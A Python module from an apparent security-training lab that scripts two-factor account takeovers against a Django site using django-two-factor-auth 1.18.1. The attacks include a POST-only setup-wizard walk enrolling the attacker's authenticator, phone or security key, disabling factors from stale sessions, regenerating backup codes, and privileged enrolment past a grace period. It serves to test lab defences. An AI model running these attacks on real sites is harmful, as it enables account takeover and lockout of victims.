"""Account takeover: the attacker knows a password and adds, removes or replaces a factor.

django-two-factor-auth 1.18.1 sends a user who already has a device away from the setup
wizard on GET only; a POST walk completes and verifies the session with the ATTACKER's
device. Its disable page accepts any verified session, however old. Exercise 6 (step-up)
stops both: a factor change needs a recent, verified second factor. Exercise 4 stops a
privileged user past the grace period from enrolling without an administrator's code.

    takeover.enrolment(lab, "alice", method="generator")  # or "sms", "webauthn"
    takeover.add_phone(lab, "alice")                       # the phone registration page
    takeover.disable(lab, "alice", minutes=10)             # a verified session 10 minutes old
    takeover.regenerate_backup_codes(lab, "alice", None)   # None: from a password-only session
    takeover.privileged_past_grace(lab, "sam")             # sam's password, no enrolment code

Each returns an AttackResult whose evidence says which devices the victim has before and
after (read from the lab's database), and which emails reached the victim.
"""

import json
from contextlib import contextmanager
from datetime import timedelta

from .. import wizards
from ..otp import totp_code
from .results import AttackResult, factor_name, lab_name, page_evidence, reached, stopwatch

ATTACKER_PHONE = "+447400123456"  # the attacker's prepaid SIM (a valid UK mobile number)
ATTACKER_KEY_SEED = b"mallory's own security key"
PHONE_SETUP = "/account/two_factor/phone/register/"
DISABLE = "/account/two_factor/disable/"
BACKUP_CODES = "/account/two_factor/backup/tokens/"
METHODS = {"generator": "an authenticator app", "sms": "SMS to the attacker's phone",
           "webauthn": "the attacker's security key"}


def device_rows(lab, username):
    """The victim's confirmed devices, as 'model name' strings (backup codes left out)."""
    return sorted(f"{type(d)._meta.model_name} {d.name}" for d in lab.devices(username)
                  if d.confirmed and type(d)._meta.model_name not in ("staticdevice", "backupcodedevice"))


def emails_to(lab, username, since):
    return [m.body.splitlines()[0] for m in lab.outbox("email", lab.persona(username).email) if m.id > since]


def last_message(lab):
    return max([m.id for m in lab.outbox()], default=0)


@contextmanager
def watching(lab, username):
    """Record the victim's devices and the outbox before and after an attack."""
    seen = {"before": device_rows(lab, username)}
    since = last_message(lab)
    yield seen
    seen["after"] = device_rows(lab, username)
    seen["emails to the victim"] = emails_to(lab, username, since)


def password_only(lab, username):
    """The attacker's session: Django's plain login with the victim's password."""
    client = lab.client()
    wizards.password_only_login(client, username, lab.persona(username).password)
    return client


def walk_setup(lab, client, method):
    """Walk the setup wizard by POST with the attacker's own factor; the final page."""
    if method == "generator":
        page = wizards.setup_method(client, "generator", start_with_get=False)
        if not wizards.OTPAUTH.search(page.text):
            return page
        secret = wizards.secret_from_setup_page(page)
        return client.post(wizards.SETUP, {"setup_view-current_step": "generator",
                                           "generator-token": totp_code(secret)})
    if method == "sms":
        since = last_message(lab)
        page = wizards.setup_method(client, "sms", start_with_get=False)
        if 'name="sms-number"' not in page.text:
            return page
        page = client.post(wizards.SETUP, {"setup_view-current_step": "sms", "sms-number": ATTACKER_PHONE})
        sent = [m for m in lab.outbox("sms", ATTACKER_PHONE) if m.id > since]
        if not sent:
            return page
        return client.post(wizards.SETUP, {"setup_view-current_step": "validation", "validation-token": sent[-1].token})
    if method == "webauthn":
        from ..authenticator import SoftAuthenticator
        from ..ceremonies import CeremonyError, creation_options

        page = wizards.setup_method(client, "webauthn", start_with_get=False)
        if "webauthn-token" not in page.text:
            return page
        try:
            options = creation_options(client)
        except CeremonyError:
            return page
        response = SoftAuthenticator(seed=ATTACKER_KEY_SEED).create(options, client.base_url)
        return client.post(wizards.SETUP, {"setup_view-current_step": "webauthn",
                                           "webauthn-token": json.dumps(response)})
    raise ValueError(f"method must be one of {', '.join(METHODS)}, not {method!r}")


def _result(attack, lab, username, ok, seen, final, attempts, watch, worked, stopped, factor=None):
    evidence = {**seen, **page_evidence(final)}
    return AttackResult(attack, factor or factor_name(lab, username), lab_name(lab), ok, attempts=attempts,
                        elapsed=watch.elapsed, evidence=evidence, reason=worked if ok else stopped)


def enrolment(lab, username="alice", method="generator"):
    """Password-only session, then a POST walk through the setup wizard with the attacker's factor."""
    with stopwatch() as watch, watching(lab, username) as seen:
        client = password_only(lab, username)
        page = walk_setup(lab, client, method)
        added = page.status == 302 and "setup/complete" in page.location
        ok, final = reached(client)
    ok = ok and added and seen["after"] != seen["before"]
    return _result(f"enrolment takeover ({METHODS[method]})", lab, username, ok, seen, final, 6, watch,
                   f"a password-only session enrolled {METHODS[method]} and reached /dashboard/ with it",
                   f"the setup wizard refused a password-only session ({refusal(page)}); the victim's "
                   "devices are unchanged")


@contextmanager
def stale_session(lab, username, minutes):
    """A session the victim verified `minutes` ago (a borrowed laptop, a stolen cookie): the
    lab's clock is moved on, and put back afterwards."""
    from lab_project.mfa import clock

    if lab.persona(username).factor == "totp":
        lab.forget_used_codes(username)
    client = lab.login(username)
    clock.freeze(clock.now(using=lab.alias) + timedelta(minutes=minutes), using=lab.alias)
    try:
        yield client
    finally:
        clock.freeze(None, using=lab.alias)


@contextmanager
def attacker_session(lab, username, minutes):
    """minutes=None: a password-only session; else a verified session that many minutes old."""
    if minutes is None:
        yield password_only(lab, username)
    else:
        with stale_session(lab, username, minutes) as client:
            yield client


def session_name(minutes):
    if minutes is None:
        return "a password-only session"
    return f"a verified session {minutes} minute{'' if minutes == 1 else 's'} old"


def session_label(minutes):
    return "password-only" if minutes is None else f"{minutes} min"


def add_phone(lab, username="alice", minutes=10):
    """The phone registration page (a backup phone of the attacker's), from a stale session
    (two-factor asks for a verified session here, so a password-only one gets nowhere)."""
    with stopwatch() as watch, watching(lab, username) as seen, attacker_session(lab, username, minutes) as client:
        since = last_message(lab)
        client.get(PHONE_SETUP)
        page = client.post(PHONE_SETUP, {"phone_setup_view-current_step": "setup", "setup-number": ATTACKER_PHONE,
                                         "setup-method": "sms"})
        sent = [m for m in lab.outbox("sms", ATTACKER_PHONE) if m.id > since]
        if sent:
            page = client.post(PHONE_SETUP, {"phone_setup_view-current_step": "validation",
                                             "validation-token": sent[-1].token})
    ok = seen["after"] != seen["before"]
    return _result(f"backup phone takeover ({session_label(minutes)})", lab, username, ok, seen, page, 3, watch,
                   f"{session_name(minutes)} registered the attacker's phone as a backup phone",
                   f"the phone registration page refused {session_name(minutes)} ({refusal(page)})")


def refusal(page):
    return f"{page.status} -> {page.location.split('?')[0] or page.path}"


def disable(lab, username="alice", minutes=10):
    """Disable two-factor (every factor deleted) from a stale session, or a password-only one."""
    with stopwatch() as watch, watching(lab, username) as seen, attacker_session(lab, username, minutes) as client:
        client.get(DISABLE)
        page = client.post(DISABLE, {"understand": "on"})
    ok = seen["after"] != seen["before"]
    return _result(f"disable two-factor ({session_label(minutes)})", lab, username, ok, seen, page, 3, watch,
                   f"{session_name(minutes)} deleted every factor of {username}",
                   f"the disable page sent {session_name(minutes)} to verify again ({refusal(page)}); "
                   "nothing was deleted")


def regenerate_backup_codes(lab, username="alice", minutes=10):
    """POST to the backup-codes page: a fresh set of codes the attacker can read."""
    from django_otp.plugins.otp_static.models import StaticToken

    from lab_project.mfa.models import BackupCode

    def codes():
        user = lab.user(username)
        return (BackupCode.objects.using(lab.alias).filter(user=user).count(),
                StaticToken.objects.using(lab.alias).filter(device__user=user).count())

    with stopwatch() as watch, watching(lab, username) as seen, attacker_session(lab, username, minutes) as client:
        before = codes()
        client.get(BACKUP_CODES)
        page = client.post(BACKUP_CODES)
        after = codes()
    seen["backup codes before"], seen["backup codes after"] = sum(before), sum(after)
    ok = after != before
    return _result(f"backup-code regeneration ({session_label(minutes)})", lab, username, ok, seen, page, 3, watch,
                   f"{session_name(minutes)} generated a fresh set of backup codes",
                   f"the backup-codes page refused {session_name(minutes)} ({refusal(page)})")


def privileged_past_grace(lab, username="sam", days_overdue=1):
    """A privileged user past the grace period, no device: the attacker enrols theirs, then /admin/."""
    from lab_project.mfa import clock
    from lab_project.mfa.models import PrivilegeRecord
    from lab_project.mfa.policy import grace_period

    user = lab.user(username)
    now = clock.now(using=lab.alias)
    PrivilegeRecord.objects.using(lab.alias).update_or_create(
        user=user, defaults={"privileged_since": now - grace_period() - timedelta(days=days_overdue)})
    with stopwatch() as watch, watching(lab, username) as seen:
        client = lab.login(username)  # no device: the password is all the login wizard asks
        page = walk_setup(lab, client, "generator")
        ok, final = reached(client, "/admin/")
    ok = ok and seen["after"] != seen["before"]
    return _result(f"privileged past grace ({days_overdue} d)", lab, username, ok, seen, final if ok else page, 5,
                   watch, f"{username}'s password alone enrolled the attacker's app and opened /admin/",
                   f"the setup wizard asked for an administrator's enrolment code ({refusal(page)}); "
                   "no device was added", factor="none")
